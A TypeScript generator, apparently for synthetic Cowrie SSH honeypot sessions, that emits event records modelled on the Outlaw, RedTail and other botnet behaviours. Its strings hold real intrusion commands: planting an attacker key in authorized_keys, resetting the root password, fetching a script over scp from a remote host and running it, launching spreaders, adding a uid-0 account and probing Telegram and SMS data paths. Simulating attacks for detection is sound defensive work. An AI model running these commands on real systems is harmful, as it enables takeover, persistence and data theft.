import type { Body } from '../../src/model/event.ts';
import { banner, command, type Dice, fast, login, type Made, noise, upload } from './variant.ts';

const clients = [
  'SSH-2.0-Go',
  'SSH-2.0-libssh_0.9.6',
  'SSH-2.0-libssh_0.12.0',
  'SSH-2.0-paramiko_3.4.0',
  'SSH-2.0-OpenSSH_10.0',
  'SSH-2.0-PUTTY',
];

function ssh(dice: Dice, label: string, bodies: Body[]): Made {
  const who = login(dice.pick(['root', 'admin', 'ubuntu', 'pi', 'sol', 'oracle']), dice.word(5, 9));
  return {
    label,
    protocol: 'ssh',
    port: 22,
    bodies: [banner(dice.pick(clients)), who, ...bodies],
    gaps: fast,
  };
}

/** Outlaw: key, profile, clean-up, in the variants that its versions show; another key, comment and password each time. */
export function outlaw(dice: Dice): Made {
  const key = `ssh-rsa AAAAB3NzaC1yc2EAAAAB${dice.word(40, 200, 'ABCDEFGHIJKLMNOPabcdefghijklmnop0123456789+/')}== ${dice.chance(0.6) ? 'mdrfckr' : dice.word()}`;
  const implant = `cd ~ && rm -rf .ssh && mkdir .ssh && echo "${key}">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~`;
  const unlock = dice.pick([
    'cd ~; chattr -ia .ssh; lockr -ia .ssh',
    'cd ~;chattr -i -a .ssh;lockr -i -a .ssh',
    'chattr -ia ~/.ssh; lockr -ia ~/.ssh',
  ]);
  const clean =
    'rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny; pkill -9 sleep;';
  const profile = [
    'cat /proc/cpuinfo | grep name | wc -l',
    `echo "root:${dice.word(12, 12, 'abcdefXYZ0123456789')}"|chpasswd|bash`,
    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    'ls -lh $(which ls)',
    dice.pick(['which ls', 'ls -lh $(which cat)', 'pwd']),
    'crontab -l',
    'w',
    dice.pick(['uname -m', 'uname', 'uname -a']),
    'cat /proc/cpuinfo | grep model | grep name | wc -l',
    'top',
    'lscpu | grep Model',
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
  ];
  const all = [
    ...(dice.chance(0.85) ? [unlock] : []),
    implant,
    profile[0]!,
    ...(dice.chance(0.6) ? [profile[1]!] : []),
    ...(dice.chance(0.7) ? [clean] : []),
    ...profile.slice(2).filter(() => dice.chance(0.9)),
  ];
  // Some sessions only take stock.
  const lines = dice.chance(0.1) ? [profile[0]!, ...profile.slice(2)] : all;
  if (dice.chance(0.05))
    return ssh(dice, 'S1', [login('345gs5662d34', dice.pick(['345gs5662d34', '3245gs5662d34']), false)]);
  return ssh(
    dice,
    'S1',
    dice.amid(
      lines.map((line) => command(dice.loosely(line))),
      noise,
      0.15,
    ),
  );
}

/** RedTail: the files keep their endings, and may have other names; SCP in place of SFTP. */
export function redtail(dice: Dice): Made {
  const stem = dice.chance(0.7) ? 'redtail' : dice.word();
  const [clean, setup] = dice.chance(0.7)
    ? ['clean.sh', 'setup.sh']
    : [`${dice.word()}.sh`, `${dice.word()}.sh`];
  if (dice.chance(0.1)) {
    const host = dice.ip();
    return ssh(dice, 'S2', [
      upload('sshcfg', dice.sha256()),
      upload('key.ppk', dice.sha256()),
      command(`chmod 600 key.ppk; scp -F sshcfg -i key.ppk dlr@${host}:sh out_sh; sh out_sh`),
    ]);
  }
  const arches = dice.shuffled(['x86_64', 'i686', 'arm7', 'arm8', ...(dice.chance(0.4) ? ['riscv'] : [])]);
  const folder = dice.pick(['', '/tmp/', '/root/']);
  const files = [clean, setup, ...arches.map((arch) => `${stem}.${arch}`)].map((name) =>
    upload(`${folder}${name}`, dice.sha256()),
  );
  const script = `chmod +x ${clean}; sh ${clean}; rm -rf ${clean}; chmod +x ${setup}; sh ${setup}; rm -rf ${setup}`;
  const more = dice.chance(0.5)
    ? [
        command(
          `mkdir -p ~/.ssh; chattr -ia ~/.ssh/authorized_keys; echo "ssh-rsa AAAAB3NzaC1yc2EAAAA${dice.word(60, 90)} rsa-key-20230629" > ~/.ssh/authorized_keys; chattr +ai ~/.ssh/authorized_keys; uname -a`,
        ),
      ]
    : [];
  const probe = dice.chance(0.5) ? [command(String.raw`echo -e "\x61\x75\x74\x68\x5F\x6F\x6B\x0A"`)] : [];
  return ssh(dice, 'S2', [
    ...probe,
    ...dice.amid(files, noise, 0.1),
    ...(dice.chance(0.5) ? [command(dice.loosely(script))] : script.split('; ').map(command)),
    ...more,
  ]);
}

export function smsHunter(dice: Dice): Made {
  const places = dice.shuffled([
    '~/.local/share/TelegramDesktop/tdata',
    '/home/*/.local/share/TelegramDesktop/tdata',
    '/dev/ttyGSM*',
    '/dev/ttyUSB-mod*',
    '/var/spool/sms/*',
    '/var/log/smsd.log',
    '/etc/smsd.conf*',
    '/usr/bin/qmuxd',
    '/var/qmux_connect_socket',
  ]);
  const lines = [
    ...(dice.chance(0.8) ? ['/ip cloud print'] : []),
    dice.pick(['ifconfig', 'uname -a', 'cat /proc/cpuinfo']),
    dice.pick(["ps | grep '[Mm]iner'", "ps -ef | grep '[Mm]iner'"]),
    `ls -la ${places.join(' ')}`,
    ...(dice.chance(0.6) ? ['locate D877F783D5D3EF8Cs'] : []),
    ...(dice.chance(0.4) ? ['echo Hi | cat -n'] : []),
  ];
  return ssh(
    dice,
    'S3',
    dice.amid(
      lines.map((line) => command(dice.loosely(line))),
      noise,
      0.2,
    ),
  );
}

export function fingerprintScript(dice: Dice): Made {
  const name = dice.pick([
    'uname -s -v -n -r -m',
    'uname -s -n -r -v -m',
    '/bin/uname -s -v -n -r -m',
    'uname -snrvm',
    '/bin/./uname -s -v -n -r -m',
  ]);
  const help = `${dice.pick(['echo ', ''])}CAT_HELP:$(cat --help 2>&1 | ${dice.pick(['head -n 1', 'tr "\\n" " "'])})`;
  return ssh(
    dice,
    'S4',
    dice.pick([
      [command(name)],
      [command(name), command('nproc')],
      [command(dice.loosely(`${name}; ${help}`))],
      [command(`echo "${help}"`)],
    ]),
  );
}

export function spreader(dice: Dice): Made {
  const folder = `.${dice.int(1_000, 9_999_999)}`;
  const program = dice.pick(['sshd', 'sshd', 'xinetd', 'rsync']);
  const list = Array.from({ length: dice.int(2, 40) }, () => dice.ip()).join(' ');
  const start = `nohup ./${folder}/${program} ${list} &`;
  return ssh(
    dice,
    'S5',
    dice.pick([
      [command(start)],
      [
        upload(`/tmp/${folder}/${program}`, dice.sha256()),
        command(`chmod +x ./${folder}/${program};${start}`),
      ],
      [command(`cd /tmp; chmod 755 ./${folder}/${program}; ${start.replace('&', '> /dev/null 2>&1 &')}`)],
    ]),
  );
}

export function bendi(dice: Dice): Made {
  return dice.chance(0.5)
    ? ssh(dice, 'S6', [
        upload('/tmp/bendi.py', dice.sha256()),
        command(dice.loosely(`nohup python3 /tmp/bendi.py > /dev/null 2>&1 &`)),
      ])
    : {
        ...ssh(dice, 'S6', []),
        bodies: [
          banner('SSH-2.0-Go'),
          login('root', dice.pick(['LeitboGi0ro', 'leitbogi0ro']), dice.chance(0.5)),
          ...(dice.chance(0.5) ? [command('python3 /tmp/bendi.py')] : []),
        ],
      };
}

export function accountMaker(dice: Dice): Made {
  const user = dice.pick(['system', 'support', dice.word(), 'sysadm1n']);
  const line = dice.pick([
    `useradd -m -p $(openssl passwd -1 ${dice.word()}) ${user}`,
    `sudo useradd -m -s /bin/bash -p $(openssl passwd -6 ${dice.word()}) ${user}; usermod -aG sudo ${user}`,
    `/usr/sbin/useradd  -p '$1$${dice.word()}$${dice.word(20, 22)}' -m ${user}`,
    `useradd -o -u 0 -g 0 -M -d /root -s /bin/bash ${user}`,
  ]);
  return ssh(dice, 'S7', dice.amid([command(line)], noise, 0.5));
}

export function forwarder(dice: Dice): Made {
  const to = (): Body => ({
    kind: 'forward',
    host: dice.pick(['ip-who.com', 'checker.example', 'smtp.example', 'stun.example', dice.ip()]),
    port: dice.pick([80, 25, 443, 587, 3478]),
  });
  return ssh(dice, 'S8', Array.from({ length: dice.int(1, 6) }, to));
}

/** What one behaviour after the other needs of Cowrie's log. */
export const sshVariants = [
  outlaw,
  redtail,
  smsHunter,
  fingerprintScript,
  spreader,
  bendi,
  accountMaker,
  forwarder,
];
